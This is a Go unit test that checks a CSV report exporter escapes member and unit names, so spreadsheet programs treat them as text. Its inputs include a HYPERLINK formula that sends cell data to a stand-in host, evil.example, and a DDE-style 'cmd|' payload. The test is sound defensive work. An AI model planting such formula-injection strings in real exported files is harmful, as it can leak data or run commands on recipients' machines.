package notices_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/loa-vn/loa"
	"github.com/loa-vn/loa/notices"
)

// Names members and units gave themselves must reach a spreadsheet as text, never as formulas.
func TestReportCSVCellsAreNeverFormulas(t *testing.T) {
	names := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`,
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"+84 912 345 678",
		"-2+3",
		"\t=1+1",
		"\r=1+1",
		"Nguyễn Văn An",
	}
	var people []loa.DeliveryInfo
	var units []loa.ReportRow
	for _, n := range names {
		people = append(people, loa.DeliveryInfo{Delivery: loa.Delivery{Status: "sent"}, Title: n, Unit: n})
		units = append(units, loa.ReportRow{Unit: n, Recipients: 1})
	}
	out := notices.ReportCSV("vi", time.UTC, people, units)
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(out), "\ufeff")))
	r.FieldsPerRecord = -1 // people and units have different columns
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells int
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be read as a formula", cell)
			}
			if strings.HasSuffix(cell, "=1+1") || strings.HasPrefix(cell, "'=HYPERLINK") {
				cells++
			}
		}
	}
	if cells != 9 {
		t.Errorf("%d neutralised formula cells, want the 9 written (names kept whole after the apostrophe)", cells)
	}
	if !strings.Contains(string(out), "Nguyễn Văn An,Nguyễn Văn An") {
		t.Errorf("an ordinary name was changed:\n%s", out)
	}
}
